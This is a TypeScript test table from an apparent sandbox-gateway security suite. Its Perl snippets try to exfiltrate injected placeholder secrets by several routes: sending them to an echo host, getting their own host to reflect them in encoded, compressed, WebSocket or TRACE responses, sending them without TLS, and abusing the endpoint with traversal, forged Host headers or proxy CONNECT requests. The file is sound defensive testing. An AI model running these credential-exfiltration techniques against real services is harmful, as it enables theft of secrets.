// attack/table/secrets.ts: attempts on secrets that the gateway inserts into requests: their value must reach their host, in its header, and
// never the inside of the sandbox. See attack.ts; the hosts are those of attacked-network.ts.
import type { Attack } from './attack.ts';

const perl = String.raw;

/** A request to the endpoint of a secret, with its placeholder where it belongs. */
const SIGNED = perl`my $key = $ENV{AGS_ATTACK_KEY} // return line('no placeholder'); my $to = '127.0.0.1:3129'; our $ANSWER; my $get = sub { my ($path, $more, $method) = @_; knock(($method // 'GET') . " $path HTTP/1.1\r\nHost: $to\r\n" . ($more // "Authorization: Bearer $key\r\n") . "Connection: close\r\n\r\n", $V{ENDPOINT}) }; my $door = '/ags-attack-door';`;

export const SECRET_ATTACKS: readonly Attack[] = [
  {
    id: 'cred-placeholder',
    area: 'credentials',
    references: ['A135', 'A142'],
    what: 'find the value of a secret where its placeholder stands',
    perl: perl`for my $name (qw(AGS_ATTACK_TOKEN AGS_ATTACK_KEY)) { line(($ENV{$name} // '') =~ /^ags-placeholder-[\w-]+$/ ? 'a placeholder' : 'something else', $name) }`,
    expect: ['a placeholder'],
    needs: 'origin',
  },
  {
    id: 'cred-placeholder-elsewhere',
    area: 'credentials',
    references: ['A137', 'A138', 'CVE-2026-21852'],
    what: 'have a secret sent to another host that is allowed: in a header, an address, a body',
    perl: perl`my $token = $ENV{AGS_ATTACK_TOKEN} // return line('no token'); our $ANSWER; for (["GET http://$V{ECHO}/a HTTP/1.1\r\nHost: $V{ECHO}\r\nAuthorization: Bearer $token\r\nConnection: close\r\n\r\n", 'header'], ["GET http://$V{ECHO}/?$token HTTP/1.1\r\nHost: $V{ECHO}\r\nConnection: close\r\n\r\n", 'address'], ["POST http://$V{ECHO}/a HTTP/1.1\r\nHost: $V{ECHO}\r\nContent-Length: " . length($token) . "\r\nConnection: close\r\n\r\n$token", 'body']) { door($_->[0], $_->[1]); line(index($ANSWER, $token) >= 0 ? 'as it was' : 'replaced', $_->[1]) }`,
    expect: ['200', 'as it was'],
    needs: 'origin',
  },
  {
    id: 'cred-other-header',
    area: 'credentials',
    references: ['A138'],
    what: 'have a secret put into another header of a request to its host, into the address or the body',
    perl: perl`${SIGNED} works($get->("$door/a"), '200', 'its own'); works($ANSWER =~ /^X-Signed: (in)/m ? $1 : 'no', 'in', 'signed in'); for (['header', "$door/a", "X-Other: $key\r\n"], ['cookie', "$door/a", "Cookie: a=$key\r\n"], ['proxy', "$door/a", "X-Authorization: Bearer $key\r\n"], ['path', "$door/$key", ''], ['query', "$door/a?$key", '']) { $get->($_->[1], $_->[2]); line(index($ANSWER, $key) >= 0 ? 'as it was' : 'replaced', $_->[0]) } knock("POST $door/a HTTP/1.1\r\nHost: $to\r\nContent-Length: " . length($key) . "\r\nConnection: close\r\n\r\n$key", $V{ENDPOINT}); line($ANSWER =~ /\Q$key\E/ ? 'as it was' : 'replaced', 'body')`,
    expect: ['works', 'as it was'],
    needs: 'origin',
  },
  {
    id: 'cred-sent-back',
    area: 'credentials',
    references: ['A139'],
    what: 'have the host of a secret send it back: in a body, a header, chunks, pieces, in another spelling, compressed, before its answer',
    perl: perl`${SIGNED} for (qw(body head reason json url chunks pieces trailer until early gzip echo)) { my $got = $get->("$door/say/$_"); line(leaked($ANSWER) ? 'the value' : $got eq '502' ? 'refused' : $ANSWER =~ /^Content-Encoding: gzip/mi ? 'compressed' : $ANSWER =~ /^X-Signed: in/m ? 'hidden' : "not signed in: $got", $_) } my $basic = pack('u', "me:$key"); $basic =~ s/^.//mg; $basic =~ tr/\n//d; $basic =~ tr| -_|A-Za-z0-9+/|; $basic =~ tr/\x60/A/; my $pad = (3 - length("me:$key") % 3) % 3; substr($basic, -$pad) = '=' x $pad if $pad; for (qw(body head)) { my $got = $get->("$door/say/$_", "Authorization: Basic $basic\r\n"); line(leaked($ANSWER) ? 'the value' : $ANSWER =~ /^X-Signed: in/m ? 'hidden' : "not signed in: $got", "basic $_") }`,
    expect: ['hidden', 'refused'],
    needs: 'origin',
  },
  {
    id: 'cred-sent-back-later',
    area: 'credentials',
    references: ['A139', 'A65'],
    what: 'have a secret sent back over a WebSocket, or by TRACE',
    perl: perl`${SIGNED} my $upgrade = "Authorization: Bearer $key\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\nConnection: Upgrade\r\n"; my $s = enter($V{ENDPOINT}) or return line(shut()); syswrite $s, "GET $door/say/switch-socket HTTP/1.1\r\nHost: $to\r\n$upgrade\r\n"; my $text = hear($s, qr/\r\n\r\n.{30}/s); works(kind($text), '101', 'switched'); line(leaked($text) ? 'the value' : 'hidden', 'WebSocket'); syswrite $s, 'canary'; $get->("$door/a", "Authorization: Bearer $key\r\nAccept-Encoding: gzip\r\nSec-WebSocket-Extensions: permessage-deflate\r\n"); line($ANSWER =~ /^(accept-encoding: gzip|sec-websocket-extensions)/im ? 'could be compressed' : 'hidden', 'asked for'); line($get->("$door/a", undef, $_), $_) for qw(TRACE trace TRACK)`,
    expect: ['works', 'hidden', '405'],
    needs: 'origin',
  },
  {
    id: 'cred-in-clear',
    area: 'credentials',
    references: ['A138'],
    what: 'have a secret sent to its host without TLS',
    perl: perl`our $ANSWER; my $to = "secret.$V{DOMAIN}:$V{SECURE}"; for my $name (qw(AGS_ATTACK_TOKEN AGS_ATTACK_KEY)) { my $token = $ENV{$name} // return line('no token'); my $request = "GET / HTTP/1.1\r\nHost: $to\r\nAuthorization: Bearer $token\r\nConnection: close\r\n\r\n"; (my $whole = $request) =~ s{/}{http://$to/}; knock($whole); line(index($ANSWER, $token) >= 0 ? 'as it was' : leaked($ANSWER) ? 'the value' : 'not sent', "$name request"); line(through($to, $request), "$name tunnel") }`,
    expect: ['as it was', 'not sent', 'closed'],
    needs: 'origin',
  },
  {
    id: 'cred-endpoint-elsewhere',
    area: 'credentials',
    references: ['A137'],
    what: 'reach another host, or another secret, through the endpoint of a secret',
    perl: perl`${SIGNED} line($get->($_), $_) for '/ags-attack-denied/a', '/', '/a', '/ags-attack/a', '/ags-attack', "$door-forged/../ags-attack-door/a", '//ags-attack-door/a', "http://$V{ECHO}/", "http://secret.$V{DOMAIN}:$V{SECURE}/", "http://$to$door/a", '/ags-attack-door%2fa', '*', 'canary.invalid:443'; line(knock("CONNECT $V{ECHO} HTTP/1.1\r\nHost: $V{ECHO}\r\n\r\n", $V{ENDPOINT}), 'connect'); line(knock("GET $door/a HTTP/1.1\r\nAuthorization: Bearer $key\r\n\r\n", $V{ENDPOINT}), 'no host'); works($get->("$door/a", "Authorization: Bearer $key\r\nX-Forwarded-Host: canary.invalid\r\n"), '200', 'its own'); works($ANSWER =~ /^Host: (\S+)\r$/m ? $1 : 'none', "secret.$V{DOMAIN}:$V{SECURE}", 'the host it names')`,
    expect: ['works', '400', '403', '404', '405', '421', '502'],
    needs: 'origin',
  },
  {
    id: 'cred-forged-host',
    area: 'credentials',
    references: ['A138', 'CWE-295'],
    what: 'have a secret sent to a host with an untrusted certificate, or one for another host',
    perl: perl`${SIGNED} for (qw(forged mistaken)) { my $got = $get->("/ags-attack-$_/a"); line($got =~ /^2/ ? 'let through' : $got, $_) }`,
    expect: ['502'],
    needs: 'origin',
  },
  {
    id: 'cred-proxy-password',
    area: 'credentials',
    references: ['A142'],
    what: 'have a proxy in between tell the password that it was given',
    perl: perl`our $ANSWER; my $to = "proxied.$V{DOMAIN}:$V{LOOPBACK_PORT}"; for ("CONNECT $to HTTP/1.1\r\nHost: $to\r\n\r\n", "GET http://$to/ HTTP/1.1\r\nHost: $to\r\nConnection: close\r\n\r\n") { my $got = knock($_); line(leaked($ANSWER) ? 'the password' : $got) }`,
    expect: ['502'],
    needs: 'origin',
  },
];
